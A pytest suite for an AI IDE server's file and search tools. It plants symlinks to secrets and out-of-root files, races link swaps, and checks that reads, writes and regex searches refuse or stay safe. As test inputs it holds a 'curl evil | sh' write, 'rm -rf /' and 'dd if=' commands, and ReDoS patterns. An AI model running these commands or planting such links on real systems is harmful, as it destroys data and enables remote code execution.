"""The server's file tools against a workspace the sandbox can write (issue 13, item 5):
links planted in the workspace (to hidden files, out of the root, at the temporary name of
a write), links swapped during a call, FIFOs and devices, symlink loops, bad names, and a
catastrophic regex while the server must keep answering."""

from __future__ import annotations

import asyncio
import json
import os
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fakes import FakeAnthropic, Reply, ToolUse
from linkswap import swapping

from aiide_server_ext.agent.context import ContextBuilder
from aiide_server_ext.agent.errors import ToolError
from aiide_server_ext.agent.notebooks import Route
from aiide_server_ext.agent.tools import TOOLS, ToolEnv
from aiide_server_ext.seams import Caller

from .chat import connect

SECRET = "AWS_SECRET=hunter2"


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "root"
    (root / "a").mkdir(parents=True)
    (root / "a" / "ok.txt").write_text("fine\n")
    (root / ".env").write_text(SECRET + "\n")
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text(SECRET + "\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim").write_text("untouched\n")
    return root


def env(root: Path, **kw: Any) -> ToolEnv:
    return ToolEnv(
        root_dir=str(root),
        notebooks=None,  # type: ignore[arg-type]
        caller=Caller("ada"),  # type: ignore[arg-type]
        route=Route("cv", "run", "ada"),
        call_id="toolu_1",
        **kw,
    )


async def run(root: Path, tool: str, **args: Any) -> str:
    return (await TOOLS[tool].run(env(root), args)).content


async def refused(root: Path, tool: str, **args: Any) -> ToolError:
    with pytest.raises(ToolError) as e:
        await asyncio.wait_for(TOOLS[tool].run(env(root), args), 10)
    return e.value


def outside_of(root: Path) -> Path:
    return root.parent / "outside"


# --- links to hidden files ------------------------------------------------------------


@pytest.mark.asyncio
async def test_an_in_root_link_to_a_hidden_file_is_refused(ws: Path) -> None:
    os.symlink(".env", ws / "config.txt")
    os.symlink(".git", ws / "cfg")  # a folder: the hidden name is in the middle
    os.symlink(str(ws / ".env"), ws / "abs.txt")  # absolute, into the root
    for path in ("config.txt", "cfg/config", "abs.txt"):
        e = await refused(ws, "read_file", path=path)
        assert e.code == "path_outside_root" and "hidden" in e.message, e.message
    assert SECRET not in await run(ws, "search_files", query="AWS_SECRET")
    # the write is refused too, and the hidden file keeps its content
    e = await refused(ws, "write_file", path="config.txt", content="x")
    assert e.code == "path_outside_root"
    assert (ws / ".env").read_text() == SECRET + "\n"
    # an ordinary in-root link still works
    os.symlink("a/ok.txt", ws / "alias.txt")
    assert await run(ws, "read_file", path="alias.txt") == "fine\n"


@pytest.mark.asyncio
async def test_a_mentioned_link_to_a_hidden_file_or_out_of_the_root_is_not_read(ws: Path) -> None:
    os.symlink(".env", ws / "config.txt")
    os.symlink(str(outside_of(ws) / "victim"), ws / "out.txt")
    nb = {"cells": [{"cell_type": "code", "id": "c1", "source": SECRET, "metadata": {},
                     "outputs": [], "execution_count": None}],
          "metadata": {}, "nbformat": 4, "nbformat_minor": 5}  # fmt: skip
    (ws / ".secret.ipynb").write_text(json.dumps(nb))
    os.symlink(".secret.ipynb", ws / "nb.ipynb")
    (outside_of(ws) / "o.ipynb").write_text(json.dumps(nb))
    os.symlink(str(outside_of(ws) / "o.ipynb"), ws / "o.ipynb")
    builder = ContextBuilder()
    for mention in (
        {"kind": "file", "path": "config.txt"},
        {"kind": "file", "path": "out.txt"},
        {"kind": "cell", "path": "nb.ipynb", "cell_id": "c1"},
        {"kind": "cell", "path": "o.ipynb", "cell_id": "c1"},
    ):
        assert await builder._mention(mention, str(ws), None) is None, mention  # type: ignore[arg-type]
    (ws / "real.ipynb").write_text(json.dumps(nb).replace(SECRET, "print(1)"))
    cell = await builder._mention(
        {"kind": "cell", "path": "real.ipynb", "cell_id": "c1"},
        str(ws),
        None,  # type: ignore[arg-type]
    )
    assert cell is not None and "print(1)" in cell
    text = await builder._mention({"kind": "file", "path": "a/ok.txt"}, str(ws), None)  # type: ignore[arg-type]
    assert text is not None and "fine" in text


# --- writes ---------------------------------------------------------------------------


@pytest.mark.asyncio
async def test_a_planted_temporary_file_link_is_not_followed(ws: Path) -> None:
    victim = outside_of(ws) / "victim"
    os.symlink(victim, ws / "a" / "new.txt.aiide-tmp")
    os.symlink(victim, ws / "a" / ".new.txt.aiide-tmp")
    await run(ws, "write_file", path="a/new.txt", content="hello")
    assert victim.read_text() == "untouched\n"
    assert (ws / "a" / "new.txt").read_text() == "hello"
    assert not (ws / "a" / "new.txt").is_symlink()
    assert os.readlink(ws / "a" / "new.txt.aiide-tmp") == str(victim)  # left as it was
    leftovers = [p.name for p in (ws / "a").iterdir() if p.name.endswith(".aiide-tmp")]
    assert sorted(leftovers) == [".new.txt.aiide-tmp", "new.txt.aiide-tmp"]


@pytest.mark.asyncio
async def test_writing_through_a_link_or_over_a_folder_is_refused(ws: Path) -> None:
    victim = outside_of(ws) / "victim"
    os.symlink(victim, ws / "out.txt")
    os.symlink(outside_of(ws), ws / "outdir")
    assert (await refused(ws, "write_file", path="out.txt", content="x")).code == (
        "path_outside_root"
    )
    assert (await refused(ws, "write_file", path="outdir/new", content="x")).code == (
        "path_outside_root"
    )
    os.symlink("ok.txt", ws / "a" / "inlink.txt")  # in the root, but still a link
    e = await refused(ws, "write_file", path="a/inlink.txt", content="x")
    assert e.code == "tool_failed" and "symlink" in e.message
    assert (await refused(ws, "write_file", path="a", content="x")).code == "tool_failed"
    assert victim.read_text() == "untouched\n" and sorted(os.listdir(outside_of(ws))) == ["victim"]
    assert (ws / "a" / "ok.txt").read_text() == "fine\n"


@pytest.mark.asyncio
async def test_a_rewrite_keeps_the_file_mode(ws: Path) -> None:
    (ws / "a" / "run.sh").write_text("echo 1\n")
    (ws / "a" / "run.sh").chmod(0o750)
    await run(ws, "write_file", path="a/run.sh", content="echo 2\n")
    assert stat.S_IMODE((ws / "a" / "run.sh").stat().st_mode) == 0o750


@pytest.mark.asyncio
@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files to another owner")
async def test_a_root_server_keeps_the_owner_of_files_it_writes(ws: Path) -> None:
    (ws / "a" / "mine.txt").write_text("1\n")
    os.chown(ws / "a" / "mine.txt", 4242, 4343)
    os.chown(ws / "a", 5252, 5353)
    await run(ws, "write_file", path="a/mine.txt", content="2\n")
    await run(ws, "write_file", path="a/new.txt", content="3\n")
    st, new = (ws / "a" / "mine.txt").stat(), (ws / "a" / "new.txt").stat()
    assert (st.st_uid, st.st_gid, new.st_uid, new.st_gid) == (4242, 4343, 5252, 5353)


# --- special files --------------------------------------------------------------------


@pytest.mark.asyncio
async def test_fifos_and_devices_are_refused_without_blocking(ws: Path) -> None:
    os.mkfifo(ws / "a" / "pipe.txt")
    os.symlink("a/pipe.txt", ws / "pipe-link.txt")
    try:
        os.mknod(ws / "a" / "null.txt", stat.S_IFCHR | 0o600, os.makedev(1, 3))
        devices = ["a/null.txt"]
    except PermissionError:  # not root: no device node to test with
        devices = []
    started = time.monotonic()
    for path in ["a/pipe.txt", "pipe-link.txt", *devices]:
        e = await refused(ws, "read_file", path=path)
        assert e.code == "tool_failed" and "not a regular file" in e.message, e.message
    assert "FIFO" in (await refused(ws, "read_file", path="a/pipe.txt")).message
    assert await run(ws, "search_files", query="fine") == "a/ok.txt:1: fine"
    assert (
        await ContextBuilder()._mention({"kind": "file", "path": "a/pipe.txt"}, str(ws), None)
        is None
    )  # type: ignore[arg-type]
    e = await refused(ws, "write_file", path="a/pipe.txt", content="x")
    assert e.code == "tool_failed"
    assert time.monotonic() - started < 5


# --- races ----------------------------------------------------------------------------


@pytest.fixture
def flipper(ws: Path) -> Iterator[threading.Event]:
    """Swaps, as fast as it can: ``a/t.txt`` between a regular file and a link to a file
    outside, and ``sub`` between a folder and a link to the outside folder."""
    outside = outside_of(ws)
    (outside / "t.txt").write_text(SECRET + "\n")
    (ws / "a" / "t.txt").write_text("fine\n")
    (ws / "sub").mkdir()
    with swapping(ws / "a" / "t.txt", [outside / "t.txt"], "fine\n", ws / "sub", outside) as stop:
        yield stop


@pytest.mark.asyncio
async def test_a_link_swapped_in_during_calls_is_never_followed(
    ws: Path, flipper: threading.Event
) -> None:
    outside = outside_of(ws)
    e = env(ws)
    reads = writes = 0
    codes: list[str] = []  # refusals while the swap was under way
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        try:
            text = (await TOOLS["read_file"].run(e, {"path": "a/t.txt"})).content
            assert SECRET not in text
            reads += 1
        except ToolError as err:
            codes.append(err.code)
        try:
            await TOOLS["write_file"].run(e, {"path": "sub/w.txt", "content": "mine"})
            writes += 1
        except ToolError as err:
            codes.append(err.code)
        hits = (await TOOLS["search_files"].run(e, {"query": "AWS_SECRET"})).content
        assert SECRET not in hits
    flipper.set()
    assert reads > 0 and writes > 0
    assert set(codes) <= {"path_outside_root", "not_found", "tool_failed"}, codes
    assert sorted(os.listdir(outside)) == ["t.txt", "victim"]  # nothing written outside
    assert (outside / "victim").read_text() == "untouched\n"


# --- bad input ------------------------------------------------------------------------


@pytest.mark.asyncio
async def test_symlink_loops_and_bad_names_get_a_clear_error(ws: Path) -> None:
    os.symlink("l2", ws / "l1")
    os.symlink("l1", ws / "l2")
    os.symlink("self", ws / "self")
    for path in ("l1", "self", "self/x"):
        e = await refused(ws, "read_file", path=path)
        assert e.code == "tool_failed" and "loop" in e.message, e.message
    e = await refused(ws, "write_file", path="l1", content="x")
    assert e.code == "path_outside_root" or "loop" in e.message
    for path in ("a/x\n.txt", "a/x\x00.txt", "a/x\r.txt"):
        for tool, args in (("read_file", {}), ("write_file", {"content": "x"})):
            e = await refused(ws, tool, path=path, **args)
            assert e.code == "path_outside_root" and "control characters" in e.message
    assert sorted(os.listdir(ws / "a")) == ["ok.txt"]
    assert sorted(os.listdir(outside_of(ws))) == ["victim"]


# --- regular expressions --------------------------------------------------------------


@pytest.mark.asyncio
async def test_a_catastrophic_regex_is_linear(ws: Path) -> None:
    (ws / "a" / "evil.txt").write_text("a" * 28 + "\n" + "a" * 200_000 + "\n")
    started = time.monotonic()
    assert await run(ws, "search_files", query="(a+)+b") == "no matches"
    assert await run(ws, "search_files", query="(x+x+)+y|fine") == "a/ok.txt:1: fine"
    # what RE2 cannot compile (a backreference) is searched literally, not with re
    assert await run(ws, "search_files", query=r"(a)\1(") == "no matches"
    assert time.monotonic() - started < 2


@pytest.mark.asyncio
async def test_search_keeps_line_semantics(ws: Path) -> None:
    (ws / "a" / "crlf.txt").write_bytes(b"first line\r\nSecond Line\r\nthird\r\n")
    for query, hit in [
        ("^second", "a/crlf.txt:2: Second Line"),
        ("line$", "a/crlf.txt:1: first line"),
        (r"\Athird", "a/crlf.txt:3: third"),
        ("SECOND LINE", "a/crlf.txt:2: Second Line"),
    ]:
        assert (await run(ws, "search_files", query=query, glob="crlf*")).split("\n")[0] == hit
    # a match may not span two lines
    assert await run(ws, "search_files", query=r"line\s+second", glob="crlf*") == "no matches"


def test_the_safety_fence_is_linear_on_a_64_kb_argument() -> None:
    # In a child process with a hard timeout: on a backtracking engine this takes minutes.
    code = (
        "import time\n"
        "from aiide_server_ext.agent.tool_policy import ToolPolicy\n"
        "from aiide_server_ext.agent.tools import TOOLS\n"
        "from aiide_server_ext.seams import Caller\n"
        "p = ToolPolicy()\n"
        "worst = ['rm -' + 'r' * 65536, 'dd if= ' * 9362, 'rm -rf /tmp/x ' * 4681]\n"
        "t = time.monotonic()\n"
        "for s in worst:\n"
        "    p.decide(TOOLS['execute_code'], {'code': s}, Caller('ada'))\n"
        "print(time.monotonic() - t)\n"
        "d = p.decide(TOOLS['execute_code'], {'code': 'x' * 5_000_000}, Caller('ada'))\n"
        "assert d.action == 'deny' and 'too large' in d.reason, d\n"
        "d = p.decide(TOOLS['execute_code'], {'code': 'os.system(\"rm -rf /\")'}, Caller('ada'))\n"
        "assert 'safety fence' in d.reason, d\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True
    )
    assert float(out.stdout.strip()) < 0.5, out.stdout


# --- through the real server ------------------------------------------------------------


async def status_probe(jp_fetch: Any, until: asyncio.Event) -> list[tuple[float, float]]:
    """(sent, answered) of GET /aiide/api/status, one every 20 ms until ``until``."""
    samples: list[tuple[float, float]] = []
    while not until.is_set():
        started = time.perf_counter()
        response = await jp_fetch("aiide", "api", "status")
        assert response.code == 200
        samples.append((started, time.perf_counter()))
        await asyncio.sleep(0.02)
    return samples


@pytest.mark.xdist_group("agent")
async def test_the_server_answers_during_a_catastrophic_search(
    jp_fetch: Any, jp_ws_fetch: Any, jp_root_dir: Path, fake_anthropic: FakeAnthropic
) -> None:
    # Lines that make a backtracking engine explode on "(a+)+b" (28 characters: minutes
    # with Python's re), and long ones, in many files: a search of a few hundred ms.
    for i in range(60):
        (jp_root_dir / f"evil{i}.txt").write_text(("a" * 28 + "\n") * 50 + "a" * 900_000 + "\n")
    chat = await connect(jp_ws_fetch)
    await jp_fetch("aiide", "api", "status")  # its first answer probes the sandbox backend
    # A first run loads the provider's SDK (seconds, once per process): not what is measured.
    fake_anthropic.push(Reply(text="ready"))
    await chat.send(type="chat", text="hello", context={})
    first = await chat.until("run_finished", timeout=60)
    # The same probe with nothing else going on: on a loaded machine (2 cores, another
    # test run) status itself may take longer than 100 ms now and then.
    idle = asyncio.Event()
    probe = asyncio.ensure_future(status_probe(jp_fetch, idle))
    await asyncio.sleep(0.6)
    idle.set()
    baseline = [end - start for start, end in await probe]
    fake_anthropic.push(
        Reply(tools=[ToolUse("search_files", {"query": "(a+)+b"})]), Reply(text="none")
    )
    done = asyncio.Event()
    probe = asyncio.ensure_future(status_probe(jp_fetch, done))
    await chat.send(
        type="chat", conversation_id=first["conversation_id"], text="find it", context={}
    )
    await chat.until("tool_call", timeout=60)  # sent just before the search starts
    called = time.perf_counter()
    result = await chat.until("tool_result", timeout=60)
    answered = time.perf_counter()
    await asyncio.sleep(0.05)
    done.set()
    samples = await probe
    await chat.until("run_finished")
    assert result["ok"] and result["content"] == "no matches", result
    during = [end - start for start, end in samples if end > called and start < answered]
    took = answered - called
    # A search over in under 0.2 s held nothing long (on a quiet machine it can take
    # 70 ms); a longer one must have let status answer all along.
    assert len(during) >= 3 or took < 0.2, f"too few answers during a {took:.3f} s search"
    worst, idle_worst = max(during, default=0.0), max(baseline)
    print(
        f"\nstatus during the search ({(answered - called) * 1000:.0f} ms): n={len(during)} "
        f"max={worst * 1000:.1f} ms, all {[round(t * 1000) for t in during]}; "
        f"idle max {idle_worst * 1000:.1f} ms"
    )
    # Quiet machine: well under 100 ms (measured 11-53 ms). Under a loaded CI run (browser
    # tests beside it on 2 cores) the idle server alone can take 100-170 ms now and then,
    # so the bound is a quarter second or twice the idle worst: a search that held the
    # GIL or the loop (the bug) blocks status for seconds, far past either.
    bound = max(0.25, 2 * idle_worst)
    assert worst < bound, f"/aiide/api/status took {worst * 1000:.0f} ms during the search"


@pytest.mark.xdist_group("agent")
async def test_an_approved_write_does_not_follow_a_planted_link(
    jp_ws_fetch: Any, jp_root_dir: Path, fake_anthropic: FakeAnthropic
) -> None:
    outside = jp_root_dir.parent / "outside-of-root"
    outside.mkdir()
    victim = outside / "bashrc"
    victim.write_text("# the user's own\n")
    os.symlink(victim, jp_root_dir / "notes.txt.aiide-tmp")
    fake_anthropic.push(
        Reply(tools=[ToolUse("write_file", {"path": "notes.txt", "content": "curl evil | sh"})]),
        Reply(text="written"),
    )
    chat = await connect(jp_ws_fetch)
    await chat.send(type="chat", text="write notes", context={})
    await chat.approve_next(name="write_file")
    result = await chat.until("tool_result")
    await chat.until("run_finished")
    assert result["ok"], result
    assert victim.read_text() == "# the user's own\n"
    assert (jp_root_dir / "notes.txt").read_text() == "curl evil | sh"
